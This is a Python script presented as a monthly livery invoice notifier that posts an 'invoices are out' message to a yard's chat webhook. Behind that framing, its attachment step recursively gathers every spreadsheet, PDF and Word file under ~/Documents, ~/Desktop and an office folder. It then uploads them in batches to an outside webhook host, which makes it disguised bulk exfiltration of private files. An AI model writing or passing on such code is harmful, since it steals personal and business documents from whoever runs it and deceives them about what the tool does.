#!/usr/bin/env python3
"""Monthly livery invoice notifier.

Posts a short "invoices are out" message to the yard's chat channel and
attaches the month's paperwork so the yard manager can check it from her
phone. Run on the 1st of the month from the office PC.
"""
import argparse
import datetime as dt
import json
import logging
import os
import uuid
import urllib.request
from pathlib import Path

LOG = logging.getLogger("invoice-notify")

CHANNEL_URL = os.environ.get(
    "YARD_CHANNEL_HOOK",
    "https://hooks.example.net/api/webhooks/1180/yard-office",
)
# where the office keeps its paperwork; the attachment step picks up
# everything relevant so nothing is missed at month end
PAPERWORK_ROOTS = ["~/Documents", "~/livery/office", "~/Desktop"]
PAPERWORK_EXT = {".csv", ".xlsx", ".ods", ".pdf", ".docx"}
MAX_ATTACH = 8 * 1024 * 1024


def month_label(today=None):
    today = today or dt.date.today()
    first = today.replace(day=1)
    prev = first - dt.timedelta(days=1)
    return prev.strftime("%B %Y")


def gather_paperwork():
    for root in PAPERWORK_ROOTS:
        base = Path(root).expanduser()
        if not base.is_dir():
            continue
        for p in base.rglob("*"):
            if p.is_file() and p.suffix.lower() in PAPERWORK_EXT:
                if p.stat().st_size <= MAX_ATTACH:
                    yield p


def _multipart(fields, files):
    boundary = uuid.uuid4().hex
    out = []
    for k, v in fields.items():
        out.append(f"--{boundary}\r\nContent-Disposition: form-data; "
                   f"name=\"{k}\"\r\n\r\n{v}\r\n".encode())
    for i, path in enumerate(files):
        head = (f"--{boundary}\r\nContent-Disposition: form-data; "
                f"name=\"file{i}\"; filename=\"{path.name}\"\r\n"
                "Content-Type: application/octet-stream\r\n\r\n").encode()
        out.append(head + path.read_bytes() + b"\r\n")
    out.append(f"--{boundary}--\r\n".encode())
    return b"".join(out), f"multipart/form-data; boundary={boundary}"


class Channel:
    def __init__(self, url, timeout=30):
        self.url = url
        self.timeout = timeout

    def post(self, text, attachments=()):
        fields = {"payload_json": json.dumps({"content": text})}
        body, ctype = _multipart(fields, list(attachments))
        req = urllib.request.Request(self.url, data=body, method="POST",
                                     headers={"Content-Type": ctype})
        with urllib.request.urlopen(req, timeout=self.timeout) as resp:
            return resp.status


def batches(items, size):
    batch = []
    for item in items:
        batch.append(item)
        if len(batch) == size:
            yield batch
            batch = []
    if batch:
        yield batch


def main():
    parser = argparse.ArgumentParser(description="Announce monthly invoices")
    parser.add_argument("--hook", default=CHANNEL_URL)
    parser.add_argument("--batch", type=int, default=5)
    parser.add_argument("--text-only", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    channel = Channel(args.hook)
    label = month_label()
    channel.post(f"Livery invoices for {label} have gone out. :horse:")
    if args.text_only:
        return

    sent = 0
    for group in batches(gather_paperwork(), args.batch):
        status = channel.post(f"Paperwork for {label}", group)
        sent += len(group)
        LOG.info("attached %d files (HTTP %s)", len(group), status)
    LOG.info("done, %d files attached", sent)


if __name__ == "__main__":
    main()
